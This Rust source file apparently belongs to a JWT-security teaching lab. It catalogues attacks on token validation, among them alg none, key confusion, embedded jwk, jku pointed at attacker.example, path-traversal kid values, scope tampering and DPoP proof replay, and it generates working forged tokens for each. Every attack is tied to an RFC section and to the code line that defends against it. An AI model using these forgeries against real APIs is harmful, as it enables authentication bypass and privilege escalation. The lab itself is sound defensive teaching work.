//! The attacks: what the attacker has, and what they make of it.

use aws_lc_rs::signature::RsaKeyPair;
use base64::{Engine, prelude::BASE64_URL_SAFE_NO_PAD};
use client_assertion::{ClientKey, TEST_CLIENT_ID, TEST_CLIENT_KEY};
use secrecy::ExposeSecret;
use serde_json::{Value, json};
use verify_signature::tamper;

use crate::forge::{self, hs256, jwk, kid, rs256};
use crate::naive::{self, Outcome};
use crate::{Api, LabError};

/// One attack: a token, a server that accepts it, and the line of the steps that refuses it.
///
/// In step 06 the token is a client's assertion, and the server is an authorization server. In step 07 it
/// is what a request has, separated by spaces: a token, a proof, and the `Host` header if it is not the
/// API's own.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// Its name on the command line.
    pub name: &'static str,
    /// The idea in one line.
    pub title: &'static str,
    /// The sections of specifications that warn of it.
    pub rfc: &'static str,
    /// What the attacker has at the start.
    pub has: &'static str,
    /// What the attacker does with it.
    pub does: &'static str,
    /// Makes the token.
    pub token: fn(&Attacker) -> String,
    /// The server with this weakness.
    pub naive: fn(&str, &Api) -> Outcome,
    /// The step that refuses it.
    pub step: &'static str,
    /// The line that stops it.
    pub line: Line,
}

/// A line of code in the steps.
#[derive(Clone, Copy, Debug)]
pub struct Line {
    /// The file, from the workspace's root.
    pub file: &'static str,
    /// The item in it, as `Type::method`.
    pub item: &'static str,
    /// The line's text.
    pub code: &'static str,
}

impl Attack {
    /// The attack of that name.
    ///
    /// # Errors
    /// [`LabError::NoSuchAttack`]
    pub fn named(name: &str) -> Result<&'static Self, LabError> {
        let found = ATTACKS.iter().find(|attack| attack.name == name);
        found.ok_or_else(|| LabError::NoSuchAttack(name.to_owned()))
    }
}

/// All attacks: on the header and the keys, on the signature, on the claims.
pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "alg-none",
        title: "The token says that it needs no signature",
        rfc: "RFC 8725 §2.1, §3.1",
        has: "their own token, without the scope",
        does: "writes the scope into it, sets alg to none, leaves the signature empty",
        token: |attacker| attacker.unsigned(r#"{"alg":"none","typ":"JWT"}"#),
        naive: naive::alg_none,
        step: "03",
        line: Line {
            file: HEADER,
            item: "Header::parse",
            code: "let Some(algorithm) = algorithm else {",
        },
    },
    Attack {
        name: "duplicate-alg",
        title: "Two parsers read two different algorithms",
        rfc: "RFC 7515 §4, RFC 8725 §3.1",
        has: "their own token, without the scope",
        does: "does the same as for alg-none, and adds a second alg to the header",
        token: |attacker| attacker.unsigned(r#"{"alg":"none","alg":"RS256","typ":"JWT"}"#),
        naive: naive::duplicate_alg,
        step: "03",
        line: Line {
            file: "02-decode-jwt/src/object.rs",
            item: "UniqueVisitor::visit_map",
            code: "let Entry::Vacant(member) = members.entry(name) else {",
        },
    },
    Attack {
        name: "key-confusion",
        title: "The public key is used as a shared secret",
        rfc: "RFC 8725 §2.1, §3.1",
        has: "the issuer's public key, like everyone",
        does: "signs with HS256, and takes the text of the public key's file as the secret",
        token: Attacker::signed_with_the_public_key,
        naive: naive::key_confusion,
        step: "03",
        line: Line {
            file: "03-verify-signature/src/policy.rs",
            item: "Policy::new",
            code: "algorithms: Algorithms::default(),",
        },
    },
    Attack {
        name: "embedded-jwk",
        title: "The token contains its own key",
        rfc: "RFC 7515 §4.1.3, RFC 8725 §3.10",
        has: "their own key pair",
        does: "signs with it, and puts the public half into the header",
        token: |attacker| {
            let key = jwk(&attacker.key);
            attacker.forged(json!({"kid": kid(&attacker.issuers), "jwk": key}))
        },
        naive: naive::embedded_jwk,
        step: "03",
        line: Line {
            file: HEADER,
            item: "Header::parse",
            code: "Ok(Self { algorithm, kid })",
        },
    },
    Attack {
        name: "jku",
        title: "The token says where its key is",
        rfc: "RFC 7515 §4.1.2, RFC 8725 §2.9, §3.10",
        has: "their own key pair, and a web server",
        does: "names a URL on their own host, with the issuer's as a user name before @",
        token: |attacker| {
            let site = Attacker::SITE.trim_start_matches("https://");
            let url = format!("{}@{site}", origin(&attacker.issuer));
            attacker.forged(json!({"kid": kid(&attacker.key), "jku": url}))
        },
        naive: naive::jku,
        step: "03",
        line: Line {
            file: "03-verify-signature/src/bin/03-verify-signature/main.rs",
            item: "verify",
            code: "let keys = fetch_keys(&http, &metadata.jwks_uri()?).await?;",
        },
    },
    Attack {
        name: "kid-path",
        title: "The key's name is a path on the disk",
        rfc: "RFC 7515 §4.1.4, RFC 8725 §2.9, §3.10",
        has: "their own key pair, and the right to upload a picture",
        does: "uploads the public half as a picture, and names that file as the key",
        token: |attacker| attacker.forged(json!({"kid": format!("../{}", Attacker::UPLOAD)})),
        naive: naive::kid_path,
        step: "03",
        line: Line {
            file: KEYS,
            item: "KeySet::verify",
            code: ".filter(move |key| kid.is_none() || kid == key.kid.as_ref())",
        },
    },
    Attack {
        name: "unknown-kid",
        title: "A token with an unknown key is not refused",
        rfc: "RFC 7515 §5.2, RFC 8725 §3.3",
        has: "their own key pair",
        does: "signs with it, and names a key that does not exist",
        token: |attacker| attacker.forged(json!({"kid": "next-year"})),
        naive: naive::unknown_kid,
        step: "03",
        line: Line {
            file: KEYS,
            item: "KeySet::verify",
            code: "None => VerifyError::UnknownKey { kid },",
        },
    },
    Attack {
        name: "own-issuer",
        title: "The attacker is an issuer, too",
        rfc: "RFC 7519 §4.1.1, RFC 8725 §3.8",
        has: "their own key pair, and a web server that looks like an issuer",
        does: "issues a token, with their own address as iss",
        token: |attacker| {
            let header = json!({"kid": kid(&attacker.key)});
            let iss = json!({"iss": "https://attacker.example/realms/myorg"});
            attacker.signed_by(&attacker.key, header, iss)
        },
        naive: naive::own_issuer,
        step: "03",
        line: Line {
            file: "03-verify-signature/src/bin/03-verify-signature/main.rs",
            item: "verify",
            code: "let metadata = fetch_metadata(&http, issuer.as_str()).await?;",
        },
    },
    Attack {
        name: "scope-raised",
        title: "The payload is not the one that was signed",
        rfc: "RFC 7515 §5.2, RFC 8725 §3.3",
        has: "their own token, without the scope",
        does: "writes the scope into it, and leaves the old signature where it was",
        token: |attacker| {
            let token = attacker.own_token();
            tamper(&token, "scope", "test_api_access".into()).unwrap_or(token)
        },
        naive: naive::scope_raised,
        step: "03",
        line: Line {
            file: VERIFIER,
            item: "Verifier::verify",
            code: "keys.verify(&header, segments.signing_input, &signature)?;",
        },
    },
    Attack {
        name: "other-spelling",
        title: "A stolen token in another spelling",
        rfc: "RFC 4648 §3.5, RFC 7515 §2",
        has: "a stolen token, which the API has on its list",
        does: "changes bits at the end of its last character, which encode nothing",
        token: |attacker| respelled(&attacker.stolen_token()),
        naive: naive::other_spelling,
        step: "03",
        line: Line {
            file: VERIFIER,
            item: "Verifier::verify",
            code: "decode_base64url(Part::Signature, segments.signature)?;",
        },
    },
    Attack {
        name: "crit",
        title: "A requirement of the issuer is ignored",
        rfc: "RFC 7515 §4.1.11",
        has: "a stolen token whose expiry is in the header, marked as critical",
        does: "sends it an hour after that time",
        token: |attacker| {
            let expired = json!({"crit": ["exp"], "exp": attacker.now - 3600});
            attacker.issued(expired, json!({}))
        },
        naive: naive::crit,
        step: "03",
        line: Line {
            file: HEADER,
            item: "Header::parse",
            code: "if members.contains_key(\"crit\") {",
        },
    },
    Attack {
        name: "other-realm",
        title: "Another issuer whose name starts the same",
        rfc: "RFC 7519 §4.1.1, RFC 8725 §3.8",
        has: "a token of another realm, on a server that signs for all realms with one key",
        does: "sends it as it is",
        token: |attacker| {
            let iss = format!("{}_test", attacker.issuer);
            attacker.issued(json!({}), json!({"iss": iss}))
        },
        naive: naive::other_realm,
        step: "03",
        line: Line {
            file: VERIFIER,
            item: "Verifier::validate_claims",
            code: "if claims.iss != *issuer {",
        },
    },
    Attack {
        name: "other-audience",
        title: "A token for another API",
        rfc: "RFC 7519 §4.1.3, RFC 8725 §3.9",
        has: "their own API, to which clients of the same issuer send their tokens",
        does: "forwards what a client has sent to it",
        token: |attacker| attacker.issued(json!({}), json!({"aud": "attackers_api"})),
        naive: naive::other_audience,
        step: "03",
        line: Line {
            file: VERIFIER,
            item: "Verifier::validate_claims",
            code: "if !claims.aud.contains(audience) {",
        },
    },
    Attack {
        name: "expired",
        title: "A token that has expired",
        rfc: "RFC 7519 §4.1.4",
        has: "a token from an old log file",
        does: "sends it as it is",
        token: |attacker| {
            let (iat, exp) = (attacker.now - 7200, attacker.now - 3600);
            attacker.issued(json!({}), json!({"iat": iat, "exp": exp}))
        },
        naive: naive::expired,
        step: "03",
        line: Line {
            file: VERIFIER,
            item: "Verifier::validate_claims",
            code: "if now >= claims.exp.saturating_add(LEEWAY) {",
        },
    },
    Attack {
        name: "no-exp",
        title: "A token that never expires",
        rfc: "RFC 7519 §4.1.4, RFC 9068 §2.2",
        has: "a stolen token, of an issuer that can be set up to leave out exp",
        does: "sends it as it is, next year as well",
        token: |attacker| attacker.issued(json!({}), json!({"exp": null})),
        naive: naive::no_exp,
        step: "03",
        line: Line {
            file: CLAIMS,
            item: "Claims",
            code: "pub exp: u64,",
        },
    },
    Attack {
        name: "not-yet-valid",
        title: "A token that is valid from tomorrow",
        rfc: "RFC 7519 §4.1.5",
        has: "a token that was issued today for tomorrow",
        does: "sends it today",
        token: |attacker| {
            let nbf = attacker.now + 86_400;
            attacker.issued(json!({}), json!({"nbf": nbf, "exp": nbf + 300}))
        },
        naive: naive::not_yet_valid,
        step: "03",
        line: Line {
            file: VERIFIER,
            item: "Verifier::validate_claims",
            code: "if let Some(nbf) = ahead(claims.nbf) {",
        },
    },
    Attack {
        name: "id-token",
        title: "A token that was made for something else",
        rfc: "RFC 8725 §2.8, §3.11, §3.12",
        has: "an ID token, which an application shows to its users' browsers",
        does: "sends it in place of an access token",
        token: |attacker| attacker.issued(json!({}), json!({"typ": "ID"})),
        naive: naive::id_token,
        step: "03",
        line: Line {
            file: VERIFIER,
            item: "Verifier::validate_claims",
            code: "let access_token = |typ: &str| typ == \"Bearer\" || typ == \"DPoP\" && claims.is_bound();",
        },
    },
    Attack {
        name: "bound-token",
        title: "A bound token, stolen",
        rfc: "RFC 7800 §3, RFC 8705 §3, RFC 9449 §6",
        has: "a token from a log, bound to a certificate that they do not have",
        does: "sends it as if it were a bearer token",
        token: |attacker| {
            let cnf = json!({"x5t#S256": "bwcK0esc3ACC3DB2Y5_lESsXE8o9ltc05O89jdN-dg2"});
            attacker.issued(json!({}), json!({"jti": "stolen", "cnf": cnf}))
        },
        naive: naive::bound_token,
        step: "03",
        line: Line {
            file: VERIFIER,
            item: "Verifier::validate_claims",
            code: "if claims.is_bound() && self.policy.bound_tokens == BoundTokens::Refused {",
        },
    },
    Attack {
        name: "scope-substring",
        title: "A scope whose name contains the required one",
        rfc: "RFC 6749 §3.3",
        has: "a token with another scope, which they are allowed to have",
        does: "sends it as it is",
        token: |attacker| attacker.issued(json!({}), json!({"scope": "test_api_access_trial"})),
        naive: naive::scope_substring,
        step: "04",
        line: Line {
            file: CLAIMS,
            item: "Scopes::contains",
            code: "self.names.iter().any(|scope| scope == name)",
        },
    },
    Attack {
        name: "assertion-aud",
        title: "An assertion that was made for another server",
        rfc: "RFC 7523 §3",
        has: "their own authorization server, at which the client authenticates",
        does: "forwards the client's assertion to the issuer",
        token: |attacker| {
            let aud = json!({"aud": "https://attacker.example/realms/theirs"});
            attacker.assertion(aud)
        },
        naive: naive::assertion_aud,
        step: "06",
        line: Line {
            file: ASSERTION,
            item: "check_audience",
            code: "false => invalid(\"Invalid token audience\"),",
        },
    },
    Attack {
        name: "assertion-again",
        title: "An assertion that was used",
        rfc: "RFC 7523 §3",
        has: "the log of a proxy, with a request for a token a few seconds old",
        does: "sends it again",
        token: |attacker| attacker.assertion(json!({"jti": Attacker::USED})),
        naive: naive::assertion_again,
        step: "06",
        line: Line {
            file: ASSERTION,
            item: "insert",
            code: "return invalid(\"Token reuse detected\");",
        },
    },
    Attack {
        name: "proof-again",
        title: "A proof that was used",
        rfc: "RFC 9449 §11.1",
        has: "the API's own log, with a request a few seconds old: a token and its proof",
        does: "sends both again",
        token: |attacker| {
            let token = attacker.bound_token(json!({}));
            let proof = attacker.proof(&token, json!({"jti": Attacker::USED}));
            format!("{token} {proof}")
        },
        naive: naive::proof_again,
        step: "07",
        line: Line {
            file: "07-dpop/src/presentation.rs",
            item: "Dpop::verify_proof",
            code: "false => Err(ProofError::Replayed.into()),",
        },
    },
    Attack {
        name: "proof-ath",
        title: "A proof for another token",
        rfc: "RFC 9449 §4.3, §11.8",
        has: "a used request with a token that has the scope, and a proof that the client made for a token without it",
        does: "sends the one token with the proof for the other",
        token: |attacker| {
            let weak = attacker.bound_token(json!({"scope": "profile"}));
            let strong = attacker.bound_token(json!({}));
            format!("{strong} {}", attacker.proof(&weak, json!({})))
        },
        naive: naive::proof_ath,
        step: "07",
        line: Line {
            file: PROOF,
            item: "ProofVerifier::validate_claims",
            code: "_ => Err(ProofError::Token),",
        },
    },
    Attack {
        name: "proof-host",
        title: "The sender chooses the API's name",
        rfc: "RFC 9449 §4.3, RFC 9110 §7.2",
        has: "their own API, which the client calls with the same token",
        does: "forwards token and proof, with their own name in the Host header",
        token: |attacker| {
            let token = attacker.bound_token(json!({}));
            let htu = json!({"htu": "https://attacker.example/api/private-scoped"});
            format!("{token} {} attacker.example", attacker.proof(&token, htu))
        },
        naive: naive::proof_host,
        step: "07",
        line: Line {
            file: PROOF,
            item: "ProofVerifier::validate_claims",
            code: "if claims.htu != request.url && !same_url(&claims.htu, request.url) {",
        },
    },
];

const HEADER: &str = "03-verify-signature/src/header.rs";
const KEYS: &str = "03-verify-signature/src/keys.rs";
const VERIFIER: &str = "03-verify-signature/src/verifier.rs";
const CLAIMS: &str = "03-verify-signature/src/claims.rs";
const ASSERTION: &str = "realm/src/assertion.rs";
const PROOF: &str = "07-dpop/src/verifier.rs";

/// The attacker: a client of the same issuer, whose tokens lack the scope.
pub struct Attacker {
    issuer: String,
    now: u64,
    /// The attacker's own key pair.
    key: RsaKeyPair,
    /// The issuer's key pair, which a real attacker does not have. The lab signs with it what the issuer
    /// would sign, which is possible because the realm's key is published.
    issuers: RsaKeyPair,
    /// The key pair of an honest client, which a real attacker does not have either. The lab makes with it
    /// what the attacker has found.
    clients: ClientKey,
}

impl Attacker {
    /// The `jti` of what was used already.
    pub const USED: &str = "used";
    /// The attacker's web server.
    pub const SITE: &str = "https://attacker.example/keys";
    /// The attacker's picture on the API's disk.
    pub const UPLOAD: &str = "uploads/picture.png";

    /// An attacker of an API that trusts `issuer`, at this time.
    ///
    /// # Errors
    /// [`LabError::Key`]
    pub fn new(issuer: &str, now: u64) -> Result<Self, LabError> {
        Ok(Self {
            issuer: issuer.to_owned(),
            now,
            key: forge::strangers_key()?,
            issuers: forge::published_key()?,
            clients: ClientKey::parse(TEST_CLIENT_KEY).map_err(|_| LabError::Key)?,
        })
    }

    /// What an honest client says to the issuer to get a token (RFC 7523 §3), with these changes.
    #[must_use]
    pub fn assertion(&self, changes: Value) -> String {
        let claims = json!({
            "iss": TEST_CLIENT_ID, "sub": TEST_CLIENT_ID, "aud": self.issuer,
            "jti": "fresh", "iat": self.now, "exp": self.now + 60,
        });
        let kid = json!(self.clients.thumbprint());
        let header = [("typ", json!(client_assertion::TYP)), ("kid", kid)];
        self.signed_by_the_client(header, &with(claims, changes))
    }

    /// A token of that client, bound to its key (RFC 9449 §6.1).
    #[must_use]
    pub fn bound_token(&self, claims: Value) -> String {
        let bound = json!({
            "azp": TEST_CLIENT_ID, "typ": "DPoP", "cnf": {"jkt": self.clients.thumbprint()},
        });
        self.issued(json!({}), with(bound, claims))
    }

    /// The client's proof for a call of the API with this token (RFC 9449 §4.2), with these changes.
    #[must_use]
    pub fn proof(&self, token: &str, changes: Value) -> String {
        let claims = json!({
            "jti": "fresh", "htm": "GET", "htu": Api::URL, "iat": self.now,
            "ath": dpop::token_hash(token),
        });
        let jwk = self.clients.required_members();
        let header = [("typ", json!(dpop::TYP)), ("jwk", jwk)];
        self.signed_by_the_client(header, &with(claims, changes))
    }

    fn signed_by_the_client(&self, header: [(&'static str, Value); 2], claims: &Value) -> String {
        let signed = self.clients.sign(header, claims);
        // Without a token, the test that needs a valid one fails.
        signed.map_or_else(
            |_| String::new(),
            |signed| signed.expose_secret().to_owned(),
        )
    }

    /// The attacker's own token, as issued: valid, but without the scope.
    #[must_use]
    pub fn own_token(&self) -> String {
        let claims = json!({"azp": "attacker", "scope": "profile"});
        self.issued(json!({}), claims)
    }

    /// Another client's token, valid for the API.
    #[must_use]
    pub fn stolen_token(&self) -> String {
        self.issued(json!({}), json!({"jti": "stolen"}))
    }

    /// A token signed by the issuer, with these changes to a valid one. A claim that is null is removed.
    #[must_use]
    pub fn issued(&self, header: Value, claims: Value) -> String {
        let named = with(json!({"kid": kid(&self.issuers)}), header);
        self.signed_by(&self.issuers, named, claims)
    }

    /// Valid claims, signed by the attacker.
    #[must_use]
    pub fn forged(&self, header: Value) -> String {
        self.signed_by(&self.key, header, json!({"azp": "attacker"}))
    }

    fn signed_by(&self, key: &RsaKeyPair, header: Value, claims: Value) -> String {
        let header = with(json!({"alg": "RS256", "typ": "JWT"}), header);
        forge::token(&header, &self.claims(claims), |input| rs256(key, input))
    }

    /// The same claims under this header, without a signature.
    #[must_use]
    pub fn unsigned(&self, header: &str) -> String {
        let claims = self.claims(json!({"azp": "attacker"})).to_string();
        let [header, payload] = [header, &claims].map(|part| BASE64_URL_SAFE_NO_PAD.encode(part));
        forge::token_of(&header, &payload, |_| Vec::new())
    }

    /// The same claims, signed with the text of the issuer's public key as a shared secret.
    #[must_use]
    pub fn signed_with_the_public_key(&self) -> String {
        let file = forge::pem("PUBLIC KEY", &forge::spki(&self.issuers));
        let header = json!({"alg": "HS256", "typ": "JWT", "kid": kid(&self.issuers)});
        let claims = self.claims(json!({"azp": "attacker"}));
        forge::token(&header, &claims, |input| hs256(file.as_bytes(), input))
    }

    fn claims(&self, changes: Value) -> Value {
        with(forge::claims_at(&self.issuer, self.now), changes)
    }
}

/// The object with these changes. Members that are null are removed.
fn with(mut object: Value, changes: Value) -> Value {
    if let (Value::Object(members), Value::Object(changes)) = (&mut object, changes) {
        members.extend(changes);
        members.retain(|_, value| !value.is_null());
    }
    object
}

/// A URL's scheme, host and port.
fn origin(url: &str) -> String {
    let url = url::Url::parse(url).ok();
    url.map_or(String::new(), |url| url.origin().ascii_serialization())
}

/// The same bytes in another spelling: of the 6 bits of the last character, 2 are used.
fn respelled(token: &str) -> String {
    let last = token.chars().last().unwrap_or_default();
    let letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let next = letters.chars().skip_while(|letter| *letter != last).nth(1);
    let rest = token.strip_suffix(last).unwrap_or(token);
    format!("{rest}{}", next.unwrap_or(last))
}
